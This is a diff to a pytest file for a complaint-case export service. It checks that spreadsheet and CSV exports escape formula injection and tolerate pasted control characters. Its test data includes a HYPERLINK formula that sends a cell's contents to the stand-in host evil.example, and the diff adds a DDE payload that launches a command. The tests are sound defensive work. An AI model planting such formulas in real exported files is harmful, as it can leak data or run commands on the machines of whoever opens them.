@@ -75,7 +75,7 @@ def test_an_export_of_another_units_cases_is_empty(ctx: ServiceContext, tmp_path
 
 
 TRAPS = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")", "+1+1", "-1+1", "@SUM(A1)", "＝1+1",
-         " =1+1"]
+         " =1+1", "=cmd|' /C calc'!A0", "\t=1+1", "\r\n@SUM(A1)"]
 
 
 @pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@@ -97,3 +97,18 @@ def test_typed_formulas_are_written_as_text_beside_the_complainant(
         cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
         assert all(f"'{trap}拖欠工程款{i}" in cells and f"'{trap}" in cells for i, trap in enumerate(TRAPS))
         assert not [c for c in cells if c[:1] in "=+-@＝＋－＠\t\r" and c]
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_control_characters_pasted_into_a_complaint_never_stop_the_export(
+        ctx: ServiceContext, tmp_path: Path, suffix: str) -> None:
+    """A form feed, an escape or a vertical tab copied from a scanned letter's text is no XML
+    character: one case that holds one must not make the office's whole workbook fail."""
+    service = CaseService(ctx)
+    for i, odd in enumerate(["\x0b", "\x0c", "\x1b", "\x01", "\x7f", "\x08"]):
+        service.register(complaint(title=f"停水{odd}第{i}件", summary=f"摘要{odd}",
+                                   complainant_name=f"王{odd}五", subject_name=f"对象{odd}"), actor=CLERK)
+    path = tmp_path / f"office{suffix}"
+    assert export_cases(ctx, CaseFilter(limit=1000), path, actor=DISPATCHER) == 8
+    text = "\n".join(",".join(r) for r in _read(path))
+    assert all(f"第{i}件" in text for i in range(6))
